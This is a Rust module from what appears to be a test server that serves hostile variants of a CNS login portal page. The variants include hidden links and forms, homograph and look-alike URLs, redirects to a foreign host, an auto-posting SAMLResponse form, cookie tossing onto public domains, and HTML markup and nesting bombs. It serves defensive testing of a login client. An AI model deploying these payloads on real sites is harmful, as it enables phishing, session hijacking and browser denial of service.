//! Attacks of the start page and of what it leads to.

use std::fmt::Write as _;

use hyper::{StatusCode, header};

use super::super::{
    hosts::HostName,
    reply::{Reply, append, html, redirect, set},
};
use super::Attack;

/// Name of the cookies of [`Attack::ForeignCookies`].
const COOKIE: &str = "altrui";

impl Attack {
    /// What the portal answers instead of an honest page; `None` where the attack is not there.
    pub(in super::super) fn at_portal(self, path: &str, port: u16) -> Option<Reply> {
        match path {
            "/" => self.start(port),
            "/verso" => self.beyond(port),
            _ => None,
        }
    }

    fn start(self, port: u16) -> Option<Reply> {
        let (login, other) = (HostName::Login.name(), HostName::Other.name());
        let honest = HostName::Login.url(port, "/entra");
        let foreign = HostName::Other.url(port, "/entra");
        let page = match self {
            Self::HiddenLink => format!(
                "<div hidden style=\"display:none\"><a id=\"entra-cns\" href=\"{foreign}\">Entra con \
                 CNS</a></div>{}",
                entry("/verso")
            ),
            Self::HiddenForm => format!(
                "<form method=\"post\" action=\"{foreign}\" style=\"display:none\"><input \
                 type=\"hidden\" name=\"a\" value=\"1\"><a id=\"entra-cns\">Entra con CNS</a></form>"
            ),
            Self::ForeignBase => format!("<base href=\"{foreign}\">{}", entry("/verso")),
            Self::MarkupBomb => format!("{}{}", markup_bomb(), entry("/verso")),
            Self::NestingBomb => format!("{}{}", "<div>".repeat(350_000), entry("/verso")),
            Self::PlainHttp | Self::LookAlike | Self::RedirectLoop => entry("/verso"),
            Self::StartRefresh => format!("{}{}", leads_on(&foreign), entry(&honest)),
            Self::StartForm => posting(&foreign) + &entry(&honest),
            Self::PlainLink => entry(&plain(&honest)),
            Self::ScriptLink => entry(&format!("javascript:location='{foreign}'")),
            Self::OtherPort => entry(&format!("https://{login}:1/entra")),
            Self::Homograph => entry(&honest.replacen("portale", "p\u{3BF}rtale", 1)),
            Self::SchemeRelative => entry(&format!("//{other}:{port}/entra")),
            Self::ForeignCookies | Self::StrangerBehind => entry(&honest),
            _ => return None,
        };
        let mut reply = html(StatusCode::OK, page);
        match self {
            Self::StartRefresh => {
                set(&mut reply, header::REFRESH, &format!("0; url={foreign}"));
            }
            Self::ForeignCookies => {
                let sites = [login, other, "localhost", "it", "gov.it"];
                for (number, site) in sites.iter().enumerate() {
                    let cookie = format!("{COOKIE}{number}=1; Domain={site}; Path=/");
                    append(&mut reply, header::SET_COOKIE, &cookie);
                }
                for prefix in ["__Host-", "__Secure-"] {
                    let cookie = format!("{prefix}{COOKIE}=1; Domain=portale.localhost; Path=/");
                    append(&mut reply, header::SET_COOKIE, &cookie);
                }
            }
            // What comes later needs a new connection.
            Self::StrangerBehind => set(&mut reply, header::CONNECTION, "close"),
            _ => {}
        }
        Some(reply)
    }

    /// Where the entry leads.
    fn beyond(self, port: u16) -> Option<Reply> {
        let (login, other) = (HostName::Login.name(), HostName::Other.name());
        Some(match self {
            Self::PlainHttp => redirect(&plain(&HostName::Login.url(port, "/entra"))),
            Self::LookAlike => redirect(&format!("https://{login}@{other}:{port}/entra")),
            Self::RedirectLoop => redirect("/verso"),
            _ => return None,
        })
    }
}

fn entry(address: &str) -> String {
    format!("<a id=\"entra-cns\" href=\"{address}\">Entra con CNS</a>")
}

/// The same address without TLS.
pub(super) fn plain(address: &str) -> String {
    address.replacen("https", "http", 1)
}

/// A page that leads on, in two of the ways that browsers follow.
pub(super) fn leads_on(address: &str) -> String {
    format!(
        "<meta http-equiv=\"refresh\" content=\"0;url={address}\">\
         <script>location.href = '{address}'</script>"
    )
}

/// A page whose form posts itself.
pub(super) fn posting(address: &str) -> String {
    format!(
        "<body onload=\"document.forms[0].submit()\"><form method=\"post\" action=\"{address}\">\
         <input type=\"hidden\" name=\"SAMLResponse\" value=\"x\"></form></body>"
    )
}

/// Each paragraph opens all the formatting elements again that were left open (HTML standard,
/// "reconstruct the active formatting elements"): pages of N bytes make N² elements.
fn markup_bomb() -> String {
    let mut bomb = String::new();
    for number in 0..50_000 {
        let _ = write!(bomb, "<b a={number}>");
    }
    bomb.push_str(&"<p>x".repeat(100_000));
    bomb
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_bomb_stays_below_the_longest_page() {
        assert!(markup_bomb().len() < 2_000_000);
    }
}
